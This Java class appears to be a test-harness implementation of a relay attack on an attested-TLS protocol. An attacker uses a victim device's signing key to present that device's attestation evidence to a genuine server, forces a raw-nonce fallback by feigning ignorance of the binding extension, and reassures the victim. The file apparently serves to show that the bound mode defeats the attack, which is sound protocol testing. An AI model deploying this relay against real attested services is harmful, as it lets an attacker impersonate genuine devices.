package org.attls.attack.relay;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.attls.tls.AttestedTlsClient;
import org.attls.tls.AttestedTlsConnection;
import org.attls.tls.AttestedTlsServer;
import org.attls.tls.credential.ServerTrust;
import org.attls.tls.credential.X509Credential;
import org.attls.tls.wire.CodePoints;

/**
 * Attack A1 in the form C2: an attacker with a valid certificate of its own passes a genuine
 * device's evidence on as that of its own connection, and signs with the device's identity key.
 *
 * <pre>
 * victim                 attacker                          genuine server
 *                        ClientHello                   →
 *                                                      ←   EncryptedExtensions: nonce
 *        ClientHello →
 *                    ←   EncryptedExtensions: that nonce
 *  evidence, signature →
 *                        the evidence, a signature         →   admitted?
 *                        made by the victim's key
 * </pre>
 *
 * <p>With the raw nonce the evidence fits. In binding mode {@code bound} the victim's challenge is
 * that of its own connection with the attacker, and nothing the attacker chooses makes both
 * connections have the same secrets.
 */
public final class RelayAttacker implements AutoCloseable {
  /** What the victim is told, so that it notices nothing. */
  public static final String ANSWER = "all is well\n";

  /** A number that nobody else knows as {@code attestation_binding}. */
  private static final int UNHEARD_OF = 0xFFEF;

  private static final Duration PATIENCE = Duration.ofSeconds(20);

  private final X509Credential ownCredential;
  private final SigningOracleAttester victim;
  private final CodePoints codePoints;
  private final ServerSocket listener;

  private RelayAttacker(
      X509Credential ownCredential, SigningOracleAttester victim, CodePoints codePoints)
      throws IOException {
    this.ownCredential = ownCredential;
    this.victim = victim;
    this.codePoints = codePoints;
    this.listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
    this.listener.setSoTimeout(Math.toIntExact(PATIENCE.toMillis()));
  }

  /**
   * An attacker that negotiates as everybody does, which gives the strongest binding that the two
   * others accept.
   *
   * @param ownCredential what its server shows to the victim; valid, and its own
   * @param victim signs for the attacker
   */
  public static RelayAttacker negotiating(
      X509Credential ownCredential, SigningOracleAttester victim) throws IOException {
    return new RelayAttacker(ownCredential, victim, CodePoints.DRAFT_07);
  }

  /**
   * An attacker that pretends to both sides that it has never heard of {@code attestation_binding},
   * like any implementation of the draft: whoever allows the raw nonce then uses it.
   */
  public static RelayAttacker ignoringBinding(
      X509Credential ownCredential, SigningOracleAttester victim) throws IOException {
    return new RelayAttacker(
        ownCredential,
        victim,
        CodePoints.DRAFT_07.toBuilder().attestationBinding(UNHEARD_OF).build());
  }

  /** Where the victim connects to. */
  public InetSocketAddress address() {
    return new InetSocketAddress(listener.getInetAddress(), listener.getLocalPort());
  }

  /**
   * Carries out the attack: opens a connection to the genuine server, in the course of which it
   * waits for the victim.
   *
   * @param genuine a socket connected to the genuine server
   * @param trust as honest clients have it
   * @return the attacker's connection, in which the victim's evidence has been presented; as for
   *     every client, being admitted shows with the first data from the server
   */
  public AttestedTlsConnection attack(Socket genuine, ServerTrust trust, String host)
      throws IOException {
    Relay relay = new Relay(victim, ownCredential, codePoints, this::serveVictim);
    return AttestedTlsClient.builder(trust, relay)
        .insecureAllowDraftBinding()
        .codePoints(codePoints)
        .listener(relay)
        .build()
        .connect(genuine, host);
  }

  private void serveVictim(AttestedTlsServer own) throws IOException {
    try (Socket socket = listener.accept();
        AttestedTlsConnection connection = own.accept(socket)) {
      connection.outputStream().write(ANSWER.getBytes(StandardCharsets.US_ASCII));
    }
  }

  /** Sends away a victim that still waits. */
  @Override
  public void close() throws IOException {
    listener.close();
  }
}
